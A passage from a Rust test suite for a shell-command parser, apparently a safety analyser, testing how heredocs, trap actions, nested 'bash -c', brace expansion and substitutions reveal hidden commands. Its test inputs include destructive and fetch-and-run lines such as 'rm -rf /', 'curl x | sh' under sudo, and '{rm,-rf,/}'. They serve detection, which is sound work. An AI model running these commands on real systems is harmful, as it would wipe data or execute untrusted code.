                c(&["echo", "after"])
            ]
        );
        // Substitutions in an unquoted body run and feed stdin.
        assert_eq!(
            ok("cat <<EOF\n$(curl x)\n\\$(not run) `id`\nEOF\n"),
            vec![
                c(&["cat"]).piped(&["curl", "id"]),
                c(&["curl", "x"]),
                c(&["id"])
            ]
        );
        // A shell would run that text: it is dynamic, so it cannot be analysed.
        assert!(is_syntax("bash <<EOF\n$(curl x)\nEOF\n"));
        assert_eq!(ok("cat <<'EOF'\n$(not run)\nEOF"), vec![c(&["cat"])]);
        assert_eq!(
            ok("cat <<-\tEOF\n\t$(a)\n\tEOF\n"),
            vec![c(&["cat"]).piped(&["a"]), c(&["a"])]
        );
        assert_eq!(
            argvs("cat <<A <<B; echo x\na\nA\nb\nB\necho y"),
            vec![vec!["cat"], vec!["echo", "x"], vec!["echo", "y"]]
        );
        assert!(is_syntax("cat <<EOF\nno end"));
        assert!(is_syntax("cat <<EOF"));
    }

    #[test]
    fn shell_reading_stdin_script() {
        assert_eq!(
            ok("bash <<'EOF'\nrm -rf /\nEOF"),
            vec![c(&["bash"]), c(&["rm", "-rf", "/"])]
        );
        assert_eq!(
            ok("sudo sh -s <<< 'curl x | sh'"),
            vec![
                c(&["sudo", "sh", "-s"]),
                c(&["sh", "-s"]),
                c(&["curl", "x"]),
                c(&["sh"]).piped(&["curl"]),
            ]
        );
        // Not a script on stdin: a script file, or -c.
        assert_eq!(
            argvs("bash x.sh <<< 'rm -rf /'"),
            vec![vec!["bash", "x.sh"]]
        );
        assert_eq!(argvs("bash 3<<< 'rm -rf /'"), vec![vec!["bash"]]);
        assert!(is_syntax("bash <<EOF\n$CMD\nEOF"));
        assert!(is_syntax("sh <<< \"$X\""));
    }

    #[test]
    fn trap_action_is_parsed() {
        assert_eq!(
            ok("trap 'rm -rf /tmp/x' EXIT INT"),
            vec![
                c(&["trap", "rm -rf /tmp/x", "EXIT", "INT"]),
                c(&["rm", "-rf", "/tmp/x"])
            ]
        );
        assert_eq!(
            argvs("trap - EXIT; trap -p; trap INT"),
            vec![
                vec!["trap", "-", "EXIT"],
                vec!["trap", "-p"],
                vec!["trap", "INT"]
            ]
        );
        assert!(is_syntax("trap \"$X\" EXIT"));
    }

    #[test]
    fn heredoc_inside_command_substitution() {
        let line = "git commit -m \"$(cat <<'EOF'\nFix: 1) it's done :)\n\nEOF\n)\" && git push";
        assert_eq!(
            ok(line),
            vec![
                c(&[
                    "git",
                    "commit",
                    "-m",
                    "$(cat <<'EOF'\nFix: 1) it's done :)\n\nEOF\n)"
                ])
                .dynamic(),
                c(&["cat"]),
                c(&["git", "push"]),
            ]
        );
    }

    // ----- dynamic words ---------------------------------------------------

    #[test]
    fn dynamic_words() {
        assert_eq!(ok("$CMD arg"), vec![c(&["$CMD", "arg"]).dynamic()]);
        assert_eq!(ok("rm *.txt"), vec![c(&["rm", "*.txt"]).dynamic()]);
        assert_eq!(ok("rm '*.txt'"), vec![c(&["rm", "*.txt"])]);
        assert_eq!(ok("rm a[12]"), vec![c(&["rm", "a[12]"]).dynamic()]);
        assert_eq!(ok("[ -f x ]"), vec![c(&["[", "-f", "x", "]"])]);
        assert_eq!(ok("{rm,-rf,/}"), vec![c(&["{rm,-rf,/}"]).dynamic()]);
        assert_eq!(ok("echo {1..3}"), vec![c(&["echo", "{1..3}"]).dynamic()]);
        assert_eq!(ok("echo {} a{b}"), vec![c(&["echo", "{}", "a{b}"])]);
        assert_eq!(ok("echo $"), vec![c(&["echo", "$"])]);
        assert_eq!(ok("ls @(a|b)"), vec![c(&["ls", "@(a|b)"]).dynamic()]);
    }

    // ----- errors ----------------------------------------------------------

    #[test]
    fn syntax_errors() {
        for bad in [
            "echo 'unterminated",
            "echo \"unterminated",
            "echo $(unterminated",
            "echo `unterminated",
            "echo ${x",
            "(a",
            "a)",
            "{ a; ",
            "if a; then b",
            "for x in a; do b",
            "case x in a) b",
            "a |",
            "a &&",
            "| a",
            "; a",
            "a;;",
            "echo (",
            "[[ a",
            "cat >",
            "$((1 + 2)",
        ] {
            assert!(
                is_syntax(bad),
                "expected a syntax error for {bad:?}: {:?}",
                split(bad)
            );
        }
    }

    #[test]
    fn error_offsets() {
        assert_eq!(
            split("echo ok; echo 'x"),
            Err(ShellError::Syntax {
                offset: 14,
                message: "unterminated single quote".into()
            })
        );
    }

    #[test]
    fn too_long() {
        let line = "a".repeat(MAX_INPUT_LEN + 1);
        assert_eq!(
            split(&line),
            Err(ShellError::TooLong {
                len: MAX_INPUT_LEN + 1,
                limit: MAX_INPUT_LEN
            })
        );
    }

    #[test]
    fn deep_nesting_is_too_deep() {
        let deep = |open: &str, mid: &str, close: &str, n: usize| {
            format!("{}{}{}", open.repeat(n), mid, close.repeat(n))
        };
        let too_deep = Err(ShellError::TooDeep { limit: MAX_DEPTH });
        assert_eq!(split(&deep("echo $(", "x", ")", 40)), too_deep);
        assert_eq!(split(&deep("( ", "x", " )", 40)), too_deep);
        // `((…))` is arithmetic (bash does not run `(((echo hi)))`), but its
        // nesting is limited all the same.
        assert_eq!(split(&deep("(", "x", ")", 40)), too_deep);
        assert_eq!(split(&deep("(", "x", ")", 10)), Ok(vec![]));
        assert_eq!(split(&deep("echo $((", "1", "))", 40)), too_deep);
        assert_eq!(split(&deep("{ ", "x;", " }", 40)), too_deep);
        assert_eq!(split(&deep("\"$(echo ", "x", ")\"", 40)), too_deep);
        assert_eq!(split(&deep("echo ${x:-", "y", "}", 40)), too_deep);
        assert_eq!(split(&deep("if a; then ", "b", "; fi", 40)), too_deep);
        assert_eq!(split(&deep("sudo ", "rm", "", 40)), too_deep);
        assert_eq!(split(&deep("$(", "", "", 30_000)), too_deep);
        assert_eq!(split(&deep("(", "", "", 60_000)), too_deep);
        // Shallow nesting is fine.
        assert_eq!(argvs(&deep("echo $(", "x", ")", 10)).len(), 11);
    }

    #[test]
    fn arithmetic_versus_subshell() {
        // Bash decides by whether the inner parenthesis is closed by `))`.
        assert_eq!(
            argvs("((echo a); rm -rf /)"),
            vec![vec!["echo", "a"], vec!["rm", "-rf", "/"]]
        );
        assert_eq!(
            argvs("echo $((echo hi) )"),
            vec![vec!["echo", "$((echo hi) )"], vec!["echo", "hi"]]
        );
        assert_eq!(argvs("(((echo hi)))"), Vec::<Vec<String>>::new());
        assert_eq!(
            argvs("x=1 && { y; } && (( z )) && [[ -f a ]] || $(w)"),
            vec![vec!["y"], vec!["$(w)"], vec!["w"]]
        );
    }

    #[test]
    fn comment_inside_command_substitution() {
        assert_eq!(
            argvs("echo $( # comment )\nrm -rf /\n)"),
            vec![
                vec!["echo", "$( # comment )\nrm -rf /\n)"],
                vec!["rm", "-rf", "/"]
            ]
        );
    }

    #[test]
    fn nested_bash_c() {
        assert_eq!(
            argvs(r#"bash -c "sh -c 'rm -rf /'""#),
            vec![
                vec!["bash", "-c", "sh -c 'rm -rf /'"],
                vec!["sh", "-c", "rm -rf /"],
                vec!["rm", "-rf", "/"]
            ]
        );
    }

    #[test]
    fn huge_pipeline_is_rejected_not_exploded() {
        let line = "a|".repeat(20_000) + "a";
        assert!(matches!(split(&line), Err(ShellError::Syntax { .. })));
    }

    #[test]
    fn runs_on_small_stack() {
        let inputs = [
            format!("{}x{}", "echo \"$(".repeat(31), ")\"".repeat(31)),
            format!("{}x;{}", "{ ".repeat(31), " }".repeat(31)),
            format!("{}x{}", "if a; then ".repeat(31), "; fi".repeat(31)),
            "$(".repeat(60_000),
        ];
        let handle = std::thread::Builder::new()
            .stack_size(512 * 1024)
            .spawn(move || {
                for i in &inputs {
                    let _ = split(i);
                }
            })
            .unwrap();
        handle.join().unwrap();
    }

    /// Fragments that exercise the parser's special cases.
    const SHELLISH: [&str; 64] = [
        " ",
        "\n",
        "\t",
        ";",
        "&",
        "|",
        "<",
        ">",
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        "$",
        "`",
        "'",
        "\"",
        "\\",
        "#",
        "=",
        "*",
        "?",
        "!",
        "~",
        "@",
        "+",
        ",",
        ".",
        "-",
        "a",
        "x1",
        "0",
        "9",
        "if ",
        "then ",
        "fi",
        "do ",
        "done",
        "case ",
        "esac",
        "in ",
        "for ",
        "while ",
        "function ",
        "<<",
        "<<-",
        "EOF",
        "$(",
        "$((",
        "${",
        "[[ ",
        " ]]",
        "))",
        ";;",
        "sudo ",
        "env ",
        "xargs ",
        "find ",
        "-exec ",
        "bash -c ",
        "eval ",
        "$'",
        "\u{e9}",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        #[test]
        fn never_panics_on_arbitrary_strings(s in any::<String>()) {
            let _ = split(&s);
        }

        #[test]
        fn never_panics_on_shellish_strings(parts in prop::collection::vec(prop::sample::select(SHELLISH.to_vec()), 0..60)) {
            let _ = split(&parts.concat());
        }

        #[test]
        fn never_panics_on_deep_nesting(
            open in prop::sample::select(vec!["$(", "(", "{ ", "\"$(", "${x:-", "`", "<(", "$((", "if a; then ", "bash -c '", "[[ ", "case x in x) "]),
            n in 0usize..200,
            close in prop::sample::select(vec![")", "}", "; }", ")\"", "`", "))", "; fi", "'", " ]]", ";; esac", ""]),
            m in 0usize..200,
        ) {
            let s = format!("{}x{}", open.repeat(n), close.repeat(m));
            let _ = split(&s);
        }
    }
}
